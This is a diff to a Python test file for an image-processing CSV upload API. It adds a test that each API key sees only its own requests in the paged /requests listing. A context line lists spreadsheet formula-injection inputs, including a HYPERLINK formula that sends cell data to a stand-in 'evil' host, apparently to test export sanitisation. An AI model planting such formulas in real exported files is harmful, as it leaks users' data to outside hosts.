@@ -214,6 +214,24 @@ def test_requests_are_listed_newest_first_and_paged(make_settings, image_server)
         assert second.json()["next_cursor"] is None
 
 
+def test_requests_lists_only_the_calling_keys_requests(make_settings, image_server):
+    url = image_server.add(images.jpeg((16, 16)))
+    with TestClient(create_app(make_settings(api_keys="key-one,key-two"))) as client:
+        one, two = {"X-API-Key": "key-one"}, {"X-API-Key": "key-two"}
+        mine = [upload(client, csv_of([(1, "A", [url])]), headers=one).json()["request_id"] for _ in range(2)]
+        theirs = upload(client, csv_of([(1, "B", [url])]), headers=two).json()["request_id"]
+        listed = client.get("/requests", headers=one).json()
+        assert [item["request_id"] for item in listed["items"]] == mine[::-1]
+        assert [item["request_id"] for item in client.get("/requests", headers=two).json()["items"]] == [
+            theirs
+        ]
+        first = client.get("/requests", params={"limit": 1}, headers=two).json()
+        assert first["next_cursor"] is None
+        for request_id in mine:
+            wait_finished(client, request_id, headers=one)
+        wait_finished(client, theirs, headers=two)
+
+
 FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "Shirt = blue"]
 
 
